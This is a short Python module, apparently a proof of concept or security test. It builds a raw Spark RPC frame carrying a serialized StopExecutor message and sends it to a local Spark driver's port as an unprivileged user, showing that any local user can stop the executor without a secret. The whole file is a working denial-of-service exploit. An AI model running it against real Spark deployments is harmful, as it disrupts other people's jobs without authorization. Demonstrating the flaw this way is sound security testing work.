"""What any local user can do to a Spark without a secret: tell its driver to stop working."""

from __future__ import annotations

import os
import socket
import struct
from typing import Any

NOBODY = 65534
REQUEST = 3


def stop_executor(spark: Any) -> bytes:
    """Sends the order over a socket, as another user where root allows it; the answer."""
    port = int(spark.conf.get("spark.driver.port"))
    message = b"\0\1" + _text("127.0.0.1") + struct.pack(">i", port)
    message += _text("LocalSchedulerBackendEndpoint") + _order(spark)
    frame = struct.pack(">qbqi", 21 + len(message), REQUEST, 1, len(message)) + message
    reading, writing = os.pipe()
    if not (child := os.fork()):
        if os.getuid() == 0:
            os.setuid(NOBODY)
        wire = socket.socket()
        wire.settimeout(30)
        wire.connect(("127.0.0.1", port))
        wire.sendall(frame)
        os.write(writing, wire.recv(400))
        os._exit(0)
    os.waitpid(child, 0)
    os.close(writing)
    with open(reading, "rb") as answer:
        return answer.read()


def _order(spark: Any) -> bytes:
    jvm = spark.sparkContext._jvm
    order = getattr(getattr(jvm, "org.apache.spark.scheduler.local.StopExecutor$"), "MODULE$")
    content = jvm.java.io.ByteArrayOutputStream()
    stream = jvm.java.io.ObjectOutputStream(content)
    stream.writeObject(order)
    stream.flush()
    return bytes(content.toByteArray())


def _text(text: str) -> bytes:
    return struct.pack(">H", len(text)) + text.encode()
